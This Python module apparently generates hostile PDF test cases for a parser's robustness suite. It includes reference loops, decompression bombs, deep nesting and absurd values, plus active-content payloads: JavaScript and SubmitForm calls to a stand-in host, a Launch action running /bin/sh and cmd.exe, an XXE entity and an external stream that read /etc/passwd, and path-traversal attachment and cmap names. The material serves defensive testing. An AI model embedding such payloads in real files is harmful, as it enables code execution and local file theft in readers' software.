"""Hostile PDFs: circles, bombs, absurd numbers, active content, odd fonts, passwords."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator, Mapping, Sequence

from cases.common import Case, case

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SAID = b"BT /F1 12 Tf 72 700 Td (A visit to Ghana in May 2021.) Tj ET"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>>>%s>>"
)


def build(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def document(
    content: bytes = b"", *, page: bytes = b"", catalog: bytes = b"", pages: bytes = b"",
    font: bytes = FONT, more: Sequence[bytes] = (),
) -> bytes:  # fmt: skip
    """A document of one page; its own further objects have numbers from 6."""
    return build(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            pages or b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            PAGE % page,
            content or stream(SAID),
            font,
            *more,
        ]
    )


def deflated(data: bytes, times: int = 1) -> bytes:
    """A packed stream; packed several times it is a bomb in a bomb."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[%s]" % (b"/FlateDecode" * times))


def circles() -> Iterator[Case]:
    """References that come back to where they began."""
    yield case("pdf-contents-circle.pdf", document(b"[4 0 R 4 0 R]"))
    yield case("pdf-contents-itself.pdf", document(b"4 0 R"))
    pages = {
        "itself": b"<</Type/Pages/Kids[2 0 R]/Count 1>>",
        "twice": b"<</Type/Pages/Kids[3 0 R 2 0 R 3 0 R]/Count 3>>",
        "thousands": b"<</Type/Pages/Kids[%s]/Count 3000>>" % (b"3 0 R " * 3_000),
        "count-huge": b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
        "count-negative": b"<</Type/Pages/Kids[3 0 R]/Count -1>>",
        "no-kids": b"<</Type/Pages/Count 1>>",
        "kids-number": b"<</Type/Pages/Kids 7/Count 1>>",
        "parent-itself": b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>>",
    }
    for label, value in pages.items():
        yield case(f"pdf-pages-{label}.pdf", document(pages=value))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<</XObject<</X 6 0 R>>>>"
    drawn = document(stream(b"/X Do " + SAID), page=b"/Resources<</XObject<</X 6 0 R>>>>",
                     more=[stream(b"/X Do /X Do", form)])  # fmt: skip
    yield case("pdf-form-circle.pdf", drawn)
    glyphs = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65"
        b"/LastChar 65/Widths[9]/Encoding<</Differences[65/a]>>/CharProcs<</a 6 0 R>>"
        b"/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    own = stream(b"BT /F1 9 Tf (A) Tj ET")
    yield case("pdf-type3-circle.pdf", document(stream(b"BT /F1 9 Tf (AAA) Tj ET"), font=glyphs,
               more=[own]))  # fmt: skip
    outlines = b"<</First 6 0 R/Last 6 0 R/Next 6 0 R/Parent 6 0 R/Title(x)/Count 9>>"
    yield case("pdf-outline-circle.pdf", document(catalog=b"/Outlines 6 0 R", more=[outlines]))
    data = document()
    start = data.rfind(b"startxref")
    table = int(data[start + 9 :].split()[0])
    looped = data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % table)
    yield case("pdf-xref-circle.pdf", looped)
    yield case("pdf-xref-missing.pdf", data.replace(b"startxref", b"startxxxx"))
    yield case("pdf-xref-far.pdf", data[:start] + b"startxref\n99999999999\n%%EOF")
    yield case("pdf-length-circle.pdf", document(b"<</Length 4 0 R>>\nstream\nq\nendstream"))
    packed = stream(b"6 0 <</Type/X>>", b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")
    yield case("pdf-objects-circle.pdf", document(more=[packed]))
    yield case(
        "pdf-filter-circle.pdf", document(b"<</Length 1/Filter 4 0 R>>\nstream\nq\nendstream")
    )
    page = b"/Parent 3 0 R/Annots[3 0 R 3 0 R]/B[3 0 R]"
    yield case("pdf-page-own-parent.pdf", document(page=page))
    tree = b"<</Type/StructTreeRoot/K[6 0 R 6 0 R]/P 6 0 R/S/Document>>"
    yield case("pdf-structure-circle.pdf", document(catalog=b"/StructTreeRoot 6 0 R", more=[tree]))


def bombs() -> Iterator[Case]:
    """Little that becomes much."""
    yield case("pdf-bomb.pdf", document(deflated(bytes(120_000_000))), "limit_expansion")
    huge = deflated(SAID + b" " * 200_000_000)
    yield case("pdf-bomb-text.pdf", document(huge), "limit_expansion")
    yield case("pdf-bomb-double.pdf", document(deflated(bytes(200_000_000), 2)), "limit_expansion")
    named = deflated(bytes(120_000_000)).replace(b"/FlateDecode", b"/#46lateDecode")
    yield case("pdf-bomb-escaped.pdf", document(named), "limit_expansion")
    runs = stream(b"\x81q" * 700_000 + b"\x80", b"/Filter/RunLengthDecode")
    yield case("pdf-bomb-runs.pdf", document(runs))
    yield case("pdf-operators.pdf", document(stream(b"q " * 400_000 + SAID)))
    yield case("pdf-closing.pdf", document(stream(b"Q " * 400_000 + SAID)))
    yield case("pdf-numbers.pdf", document(stream(b"1 " * 500_000 + SAID)))
    yield case("pdf-paths.pdf", document(stream(b"0 0 m 9 9 l S\n" * 60_000 + SAID)))
    cells = b"".join(b"%d %d 3 3 re S\n" % (x * 5, y * 5) for x in range(110) for y in range(150))
    yield case("pdf-grid.pdf", document(stream(cells + SAID)))
    words = b"".join(b"BT /F1 1 Tf %d %d Td (ab) Tj ET\n" % (x * 3, y * 3)
                     for x in range(150) for y in range(200))  # fmt: skip
    yield case("pdf-words.pdf", document(stream(words)))
    yield case(
        "pdf-on-one-spot.pdf", document(stream(b"BT /F1 9 Tf 72 700 Td (ab) Tj ET " * 20_000))
    )
    yield case(
        "pdf-long-string.pdf", document(stream(b"BT /F1 9 Tf (%s) Tj ET" % (b"a" * 900_000)))
    )
    deep = b"[" * 100_000 + b"]" * 100_000
    yield case("pdf-deep-array.pdf", document(page=b"/X " + deep))
    yield case(
        "pdf-deep-dictionary.pdf", document(page=b"/X " + b"<</a " * 50_000 + b">>" * 50_000)
    )
    yield case(
        "pdf-deep-string.pdf", document(page=b"/X (" + b"(" * 200_000 + b")" * 200_000 + b")")
    )
    yield case("pdf-unclosed.pdf", document(page=b"/X " + b"<</a[" * 100_000))
    many = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * 4_000
    kids = b"".join(b"%d 0 R " % (6 + n) for n in range(len(many)))
    listed = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, len(many))
    yield case("pdf-many-pages.pdf", document(pages=listed, more=many))
    tree = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent 2 0 R>>" % (7 + n) for n in range(3_000)]
    below = b"<</Type/Pages/Kids[6 0 R]/Count 1>>"
    yield case("pdf-deep-tree.pdf", document(pages=below, more=[*tree, PAGE % b""]))


def numbers_and_letters() -> Iterator[Case]:
    """Absurd boxes, sizes and codes."""
    boxes = {
        "huge": b"[0 0 1e30 1e30]", "negative": b"[595 842 0 0]", "empty": b"[0 0 0 0]",
        "words": b"[/a /b /c /d]", "short": b"[0 0]", "nan": b"[nan inf -inf 0]",
        "far": b"[-2147483648 -2147483648 2147483647 2147483647]", "tiny": b"[0 0 .0001 .0001]",
    }  # fmt: skip
    for label, box in boxes.items():
        yield case(f"pdf-box-{label}.pdf", document(page=b"/CropBox%s/MediaBox%s" % (box, box)))
    for label, operators in {
        "size-huge": b"BT /F1 1e30 Tf 72 700 Td (Big) Tj ET",
        "size-negative": b"BT /F1 -12 Tf 72 700 Td (Minus) Tj ET",
        "size-zero": b"BT /F1 0 Tf 72 700 Td (None) Tj ET",
        "matrix": b"BT /F1 9 Tf 0 0 0 0 0 0 Tm (Flat) Tj 1e38 1e38 1e38 1e38 1e38 1e38 Tm (Far) Tj",
        "far": b"BT /F1 9 Tf 1e20 -1e20 Td (Away) Tj ET",
        "no-font": b"BT /Nope 9 Tf 72 700 Td (Nothing) Tj ET",
        "no-operands": b"BT Tf Td Tj TJ Tm ' \" ET re m l c Do",
        "rotated": b"BT /F1 9 Tf .7 .7 -.7 .7 300 300 Tm (Slanted words here) Tj ET",
        "inline": b"BI /W 100000 /H 100000 /BPC 8 /CS /G ID xxxx EI " + SAID,
        "inline-open": SAID + b" BI /W 9 ID " + b"x" * 10_000,
        "hidden": b"BT 3 Tr /F1 9 Tf 72 700 Td (Invisible) Tj ET",
        "binary": bytes(range(256)) * 40,
    }.items():
        yield case(f"pdf-text-{label}.pdf", document(stream(operators)))
    maps = {
        "surrogates": b"1 beginbfrange <00> <ff> <D800> endbfrange",
        "lone-low": b"1 beginbfchar <41> <DC00> endbfchar",
        "controls": b"1 beginbfrange <00> <ff> <0000> endbfrange",
        "private": b"1 beginbfrange <00> <ff> <E000> endbfrange",
        "long": b"1 beginbfchar <41> <%s> endbfchar" % (b"0041" * 20_000),
        "huge-range": b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange",
        "itself": b"/M usecmap",
        "garbage": bytes(range(256)) * 20,
        "escapes": b"1 beginbfrange <00> <ff> <001B> endbfrange",
    }
    for label, lines in maps.items():
        cmap = stream(b"/CIDInit/ProcSet findresource begin begincmap\n" + lines + b"\nendcmap")
        font = FONT[:-2] + b"/ToUnicode 6 0 R>>"
        yield case(f"pdf-map-{label}.pdf", document(font=font, more=[cmap]))
    named = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/%s/DescendantFonts[6 0 R]>>"
    below = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(a)/Ordering(b)>>>>"
    )
    for label, name in {"path": b"..#2F..#2F..#2Fetc#2Fpasswd", "pickle": b"#2Ftmp#2Fevil"}.items():
        yield case(f"pdf-cmap-{label}.pdf", document(font=named % name, more=[below]))
    program = [stream(b"\x00\x01\x00\x00" + bytes(range(256)) * 30, b"/Length1 7684")]
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 6 0 R>>"
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 7 0 R>>"
    yield case("pdf-font-program.pdf", document(font=font, more=[*program, descriptor]))
    for label, filter_ in {
        "jbig2": b"/JBIG2Decode", "jpx": b"/JPXDecode", "ccitt": b"/CCITTFaxDecode",
        "dct": b"/DCTDecode", "unknown": b"/EvilDecode", "crypt": b"/Crypt", "lzw": b"/LZWDecode",
        "ascii85": b"/ASCII85Decode", "hex": b"/ASCIIHexDecode",
    }.items():  # fmt: skip
        image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
        image += b"/ColorSpace/DeviceRGB/Filter" + filter_
        drawn = document(stream(b"q 500 0 0 500 0 0 cm /X Do Q " + SAID),
                         page=b"/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>",
                         more=[stream(bytes(range(256)) * 8, image)])  # fmt: skip
        yield case(f"pdf-image-{label}.pdf", drawn)
        yield case(f"pdf-content-{label}.pdf", document(stream(SAID, b"/Filter" + filter_)))
    predictor = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Colors 99999/Columns 2147483647>>"
    yield case("pdf-predictor.pdf", document(stream(zlib.compress(SAID), predictor)))


def active() -> Iterator[Case]:
    """Content that wants to act."""
    actions: Mapping[str, bytes] = {
        "javascript": b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://192.0.2.1'\\))>>",
        "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "uri": b"<</S/URI/URI(http://192.0.2.1/)>>",
        "submit": b"<</S/SubmitForm/F(http://192.0.2.1/)>>",
        "remote": b"<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\a.pdf)/D[0/Fit]>>",
        "import": b"<</S/ImportData/F(/etc/passwd)>>",
    }
    for label, action in actions.items():
        yield case(f"pdf-{label}.pdf", document(catalog=b"/OpenAction " + action), "ok")
    attached = stream(b"MZ evil", b"/Type/EmbeddedFile")
    names = b"/Names<</EmbeddedFiles<</Names[(evil.exe)<</F(../../evil.exe)/EF<</F 6 0 R>>>>]>>>>"
    yield case("pdf-attachment.pdf", document(catalog=names, more=[attached]), "ok")
    form = stream(b"<xdp><template><script>evil()</script></template></xdp>")
    yield case("pdf-xfa.pdf", document(catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>", more=[form]))
    outside = b"<</F(/etc/passwd)/Length 0>>\nstream\n\nendstream"
    yield case("pdf-external-stream.pdf", document(outside))
    laughs = b'<?xpacket?><x:xmpmeta><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;'
    meta = stream(laughs + b"</x:xmpmeta>", b"/Type/Metadata/Subtype/XML")
    yield case("pdf-metadata.pdf", document(catalog=b"/Metadata 6 0 R", more=[meta]), "ok")


def locked() -> Iterator[Case]:
    """Files with passwords, and with encryption that makes no sense."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    for label, user, strength in (("user", "secret", 128), ("owner", "", 128), ("weak", "s", 40)):
        out = io.BytesIO()
        encryption = StandardEncryption(user, "owner", strength=strength)
        canvas = Canvas(out, encrypt=encryption, invariant=1)
        canvas.drawString(72, 700, "A visit to Ghana in May 2021.")
        canvas.save()
        code = "ok" if label == "owner" else "encrypted"
        yield case(f"pdf-locked-{label}.pdf", out.getvalue(), code)
    for label, entries in {
        "unknown": b"<</Filter/Evil/V 9/R 9>>", "empty": b"<<>>",
        "standard": b"<</Filter/Standard/V 5/R 6/O()/U()/P -1/Length 99999>>", "number": b"7",
    }.items():  # fmt: skip
        data = document()
        root = data.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt %s/ID[(a)(b)]>>" % entries)
        yield case(f"pdf-encrypt-{label}.pdf", root)
    yield case("pdf-header-only.pdf", b"%PDF-1.7", "corrupt")
    yield case("pdf-header-late.pdf", b" " * 1_000 + document())
    yield case("pdf-version.pdf", document().replace(b"%PDF-1.7", b"%PDF-9.9"))
    yield case("pdf-two-in-one.pdf", document() + document())
    yield case("pdf-only-zeros.pdf", b"%PDF-1.7\n" + bytes(200_000), "corrupt")
